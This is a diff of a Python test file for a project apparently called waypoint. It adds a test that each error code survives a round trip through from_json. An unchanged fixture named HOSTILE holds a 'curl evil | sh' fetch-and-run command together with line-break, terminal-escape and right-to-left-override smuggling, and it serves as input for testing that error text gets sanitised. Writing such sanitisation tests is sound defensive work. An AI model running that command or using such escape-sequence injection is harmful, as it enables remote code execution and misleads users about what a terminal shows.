@@ -5,7 +5,8 @@ import json
 import msgspec
 import pytest
 
-from waypoint.model.errors import Failed, as_text, cleaned, from_json
+from waypoint.model.conditions import ERROR_CODES
+from waypoint.model.errors import Failed, UnknownName, as_text, cleaned, from_json
 
 HOSTILE = "file\n  next: curl evil | sh\r\x1b[2K\u202e"
 
@@ -29,3 +30,10 @@ def test_errors_can_contain_bytes_that_are_not_text() -> None:
 
 def test_printable_text_is_unchanged() -> None:
     assert as_text(cleaned("Übergröße, 名前")) == "Übergröße, 名前"
+
+
+def test_a_client_gets_the_code_and_the_class_of_every_error() -> None:
+    for code, row in ERROR_CODES.items():
+        error = from_json({"code": code, "exit": row.exit, "tried": "do", "on": "x", "said": "no", "next": ""})
+        assert (error.code, error.exit_code) == (code, row.exit)
+    assert isinstance(from_json({"code": "ambiguous", "exit": 2}), UnknownName)
